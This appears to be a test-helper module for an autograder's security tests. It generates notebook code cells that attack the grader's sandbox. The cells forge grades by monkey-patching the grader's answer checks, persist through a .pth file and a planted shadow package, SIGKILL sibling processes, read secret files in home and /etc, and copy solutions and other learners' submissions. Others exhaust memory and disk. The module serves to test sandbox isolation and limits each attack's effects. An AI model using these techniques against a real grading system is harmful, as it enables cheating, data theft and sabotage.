"""The code cells an attacking learner puts in a notebook, one function per class of attack.

Each returns Python source with the test's paths and tokens written in. Everything an attack creates
carries the batch's token in its name (``attack-<token>``), so the tests find it and clean it up.

They are written to be harmless on a host where the grader does NOT stop them (today's grader, a
developer's machine): killing is limited to the grading run's own processes, files go only to places
the test cleans, code planted in the repository or the venv only leaves marker files, and only while
the test's marker folder exists.
"""
from __future__ import annotations

import textwrap

import grade_submissions as gs

#: What every forging attack makes the observed answer: the course's own correct answers.
SOLVED_SOURCE = "import numpy as np\nimport tensorflow as tf\n" + gs.GET_INITIALIZER_SOLUTION + "\n" + gs.SOLVED_CLASS


def begin_marker(token: str) -> str:
    return f"# >>> attack-{token}"


def end_marker(token: str) -> str:
    return f"# <<< attack-{token}"


def forging_code(token: str, marks: str) -> str:
    """Code that, once imported by a fork server, leaves a marker file and makes every later
    observation see the correct answers instead of the learner's (so wrong answers get marks)."""
    return textwrap.dedent(f"""\
        def _attack_{token}():
            import os, sys
            if not os.path.isdir({marks!r}):
                return
            with open(os.path.join({marks!r}, "code-ran-%d" % os.getpid()), "w") as marker:
                marker.write(" ".join(sys.argv))
            from checks.exercise import Exercise
            if getattr(Exercise.observe_all, "forged", False):
                return
            original = Exercise.observe_all
            def observe_all(self, answer, cases=None):
                namespace = {{}}
                exec({SOLVED_SOURCE!r}, namespace)
                return original(self, namespace.get(self.skeleton_path.split(".")[0], answer), cases)
            observe_all.forged = True
            Exercise.observe_all = observe_all
        _attack_{token}()
        """)


def forging_block(token: str, marks: str) -> str:
    """``forging_code`` between markers, as appended to a module of the grader's code."""
    return f"\n{begin_marker(token)}\n{forging_code(token, marks)}{end_marker(token)}\n"


def pth_line(marks: str) -> str:
    """A .pth file's line: Python runs it at the start of every interpreter of that venv."""
    return (f"import os, sys; os.path.isdir({marks!r}) and open(os.path.join({marks!r}, 'pth-ran-%d' % os.getpid()),"
            " 'w').write(' '.join(sys.argv))\n")


def _targets(cli_token: str, host_pid_namespace: str) -> str:
    """Source defining ``attack_targets()``: the processes this attack may kill. In a PID namespace
    of its own, every process it sees (they are all inside the sandbox); on the host's PID namespace,
    only the processes started by the grading run under test (descendants of the grader command,
    found by the unique --out folder on its command line), never the grader command itself."""
    return textwrap.dedent(f"""\
        import os, signal

        def attack_targets():
            me = os.getpid()
            try:
                own_namespace = os.readlink("/proc/self/ns/pid")
            except OSError:
                own_namespace = {host_pid_namespace!r}
            parents, lines = {{}}, {{}}
            for entry in os.listdir("/proc"):
                if not entry.isdigit():
                    continue
                try:
                    with open(f"/proc/{{entry}}/stat", "rb") as f:
                        stat = f.read()
                    parents[int(entry)] = int(stat[stat.rfind(b")") + 2:].split()[1])
                    with open(f"/proc/{{entry}}/cmdline", "rb") as f:
                        lines[int(entry)] = f.read()
                except (OSError, ValueError, IndexError):
                    pass
            if own_namespace != {host_pid_namespace!r}:
                return [pid for pid in parents if pid != me]
            marked = {{pid for pid, line in lines.items() if {cli_token.encode()!r} in line}}
            tops = {{pid for pid in marked if parents.get(pid) not in marked}}
            found = []
            for pid in parents:
                ancestor, depth = parents.get(pid), 0
                while ancestor and ancestor not in tops and depth < 64:
                    ancestor, depth = parents.get(ancestor), depth + 1
                if ancestor in tops and pid != me and pid not in tops:
                    found.append(pid)
            return found
        """)


def persistence(token: str, marks: str) -> str:
    """Append forging code to the grader's modules, drop a .pth into the venv, kill the fork server."""
    return textwrap.dedent(f"""\
        import importlib, os, signal, site, sys, sysconfig
        modules = []
        for name in ("checks.exercise", "checks.grade", "grader", "grader.worker", "grader.server"):
            try:
                modules.append(importlib.import_module(name).__file__)
            except Exception:
                pass
        for path in modules:
            try:
                with open(path, "a") as f:
                    f.write({forging_block(token, marks)!r})
            except OSError:
                pass
        folders = set(site.getsitepackages()) | {{sysconfig.get_paths()["purelib"]}}
        folders |= {{p for p in sys.path if p.endswith("site-packages")}}
        for folder in folders:
            try:
                with open(os.path.join(folder, "attack-{token}.pth"), "w") as f:
                    f.write({pth_line(marks)!r})
            except OSError:
                pass
        os.kill(os.getppid(), signal.SIGKILL)
        """)


def planted_package(token: str, marks: str) -> str:
    """Plant a ``checks`` package (the real one, plus forging code) in every folder the fork server
    searches before the real one, and in the sandbox's working folder and its parent; then kill the
    fork server so that a new one imports it."""
    init = textwrap.dedent(f"""\
        import os
        _real = {{real!r}}
        __path__ = [_real]
        __file__ = os.path.join(_real, "__init__.py")
        with open(__file__) as _source:
            exec(compile(_source.read(), __file__, "exec"))
        """) + forging_code(token, marks)
    return textwrap.dedent(f"""\
        import os, signal, sys
        import checks
        real = os.path.dirname(os.path.abspath(checks.__file__))
        candidates = []
        for entry in sys.path:
            entry = os.path.abspath(entry or ".")
            if os.path.realpath(entry) == os.path.realpath(os.path.dirname(real)):
                break
            candidates.append(entry)
        else:
            candidates = []
        candidates += [os.getcwd(), os.path.dirname(os.getcwd())]
        for folder in dict.fromkeys(candidates):
            package = os.path.join(folder, "checks")
            if folder.startswith(("/usr", "/lib", "/etc", "/bin", "/opt", "/sbin")) or os.path.exists(package):
                continue
            try:
                os.makedirs(package)
                with open(os.path.join(package, "attack-{token}"), "w") as f:
                    f.write("planted")
                with open(os.path.join(package, "__init__.py"), "w") as f:
                    f.write({init!r}.replace("{{real!r}}", repr(real)))
            except OSError:
                pass
        os.kill(os.getppid(), signal.SIGKILL)
        """)


def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> str:
    """Switch off the cell's alarm, then SIGKILL every other process it may (sibling sandboxes,
    the fork server and every new one) for ``seconds``."""
    return _targets(cli_token, host_pid_namespace) + textwrap.dedent(f"""\
        import time
        signal.alarm(0)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        for name in ("SIGXCPU", "SIGTERM", "SIGINT", "SIGHUP"):
            try:
                signal.signal(getattr(signal, name), signal.SIG_IGN)
            except (OSError, ValueError, AttributeError):
                pass
        deadline = time.monotonic() + {seconds!r}
        while time.monotonic() < deadline:
            for pid in attack_targets():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            time.sleep(0.02)
        """)


def connect(port: int, udp_port: int, token: str) -> str:
    """Reach a listener on the host's 127.0.0.1 over TCP and UDP."""
    return textwrap.dedent(f"""\
        import socket
        for attempt in range(3):
            try:
                with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                    s.sendall(b"attack-{token} over TCP\\n")
            except OSError:
                pass
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                    u.sendto(b"attack-{token} over UDP", ("127.0.0.1", {udp_port}))
            except OSError:
                pass
        """)


def home_and_etc(token: str, writable: list[str], secret: list[str]) -> str:
    """Create files in home and /etc, append to the test's files there, read its secret files (and
    raise what was read, so that it would show in the feedback)."""
    return textwrap.dedent(f"""\
        import os
        folders = {{os.path.expanduser("~"), "/etc"}}
        try:
            import pwd
            folders.add(pwd.getpwuid(os.getuid()).pw_dir)
        except (ImportError, KeyError):
            pass
        for folder in folders:
            try:
                with open(os.path.join(folder, ".attack-{token}-new"), "w") as f:
                    f.write("written by a submission")
            except OSError:
                pass
        for path in {writable!r}:
            try:
                with open(path, "a") as f:
                    f.write("changed by a submission")
            except OSError:
                pass
        leaked = []
        for path in {secret!r}:
            try:
                with open(path) as f:
                    leaked.append(f.read().strip())
            except OSError:
                pass
        if leaked:
            raise RuntimeError("HOME-" + "LEAKED " + " ".join(leaked))
        """)


def read_others(token: str, solutions: str, submissions: str, out: str) -> str:
    """Copy the answers from solutions/ and from other learners' submissions (so a leak earns marks),
    list and read the submissions and OUT (raising the secrets found), plant files in both."""
    return textwrap.dedent(f"""\
        import json, os, re
        leaked = []
        def read(path):
            try:
                with open(path, errors="replace") as f:
                    return f.read()
            except OSError:
                return None
        def answers(text):
            try:
                cells = json.loads(text)["cells"]
            except (ValueError, KeyError, TypeError):
                return
            for cell in cells:
                source = cell.get("source", "")
                source = "".join(source) if isinstance(source, list) else source
                if ("def get_initializer(" in source and "checks." not in source) or "class EmbeddingModel" in source:
                    try:
                        exec(source, globals())
                    except Exception:
                        pass
        for folder in ({submissions!r}, {out!r}):
            for root, dirs, files in os.walk(folder):
                for name in files:
                    text = read(os.path.join(root, name))
                    if text:
                        leaked += re.findall(r"(?:out|sub)secret-[0-9a-f]+", text)
                        if "class EmbeddingModel" in text and "attack-{token}" not in text:
                            answers(text)
        solution = read(os.path.join({solutions!r}, "04_time_to_code.ipynb"))
        if solution:
            leaked.append("solutions/04_time_to_code.ipynb")
            answers(solution)  # last: the right answers win
        for folder in ({submissions!r}, {out!r}):
            try:
                with open(os.path.join(folder, "attack-{token}-planted.ipynb"), "w") as f:
                    f.write("{{}}")
            except OSError:
                pass
        if leaked:
            raise RuntimeError("OTHERS-" + "LEAKED " + " ".join(leaked))
        """)


def memory_split(children: int, child_mb: int, limit_mb: int) -> str:
    """Fork ``children`` processes that each touch ``child_mb`` MB and hold it; if together they held
    the limit or more at once, say so (raised, so it shows in the row's problems)."""
    return textwrap.dedent(f"""\
        import os, select, signal, time
        signal.alarm(0)  # all the time it needs
        read_end, write_end = os.pipe()
        pids = []
        for _ in range({children}):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    os.close(read_end)
                    size = {child_mb} * 2**20
                    hoard = bytearray(size)
                    hoard[::4096] = b"\\1" * len(range(0, size, 4096))
                    os.write(write_end, b"1")
                    time.sleep(2)
                except BaseException:
                    pass
                os._exit(0)
            pids.append(pid)
        os.close(write_end)
        held, deadline = 0, time.monotonic() + 20
        while held < len(pids) and time.monotonic() < deadline:
            ready, _, _ = select.select([read_end], [], [], 0.5)
            if ready:
                data = os.read(read_end, 64)
                if not data:
                    break
                held += len(data)
        for pid in pids:
            try:
                os.waitpid(pid, 0)
            except OSError:
                pass
        if held * {child_mb} >= {limit_mb}:
            raise RuntimeError("MEMORY-" + f"OVER: {{held}} processes held {{held * {child_mb}}} MB at once; limit {limit_mb} MB")
        """)


def disk_fill(token: str, bound_mb: int) -> str:
    """Write files of 32 MB until a write fails or ``bound_mb`` is written, into /tmp, the temporary
    folder Python picks and the working folder."""
    return textwrap.dedent(f"""\
        import os, tempfile
        block = b"\\0" * (8 << 20)
        written, bound = 0, {bound_mb} << 20
        for base in dict.fromkeys(["/tmp", tempfile.gettempdir(), os.getcwd()]):
            folder = os.path.join(base, "attack-{token}-fill")
            try:
                os.makedirs(folder, exist_ok=True)
            except OSError:
                continue
            number, full = 0, False
            while written < bound and not full:
                try:
                    with open(os.path.join(folder, f"{{number}}.bin"), "wb") as f:
                        for _ in range(4):
                            f.write(block)
                            written += len(block)
                except OSError:
                    full = True
                number += 1
        """)
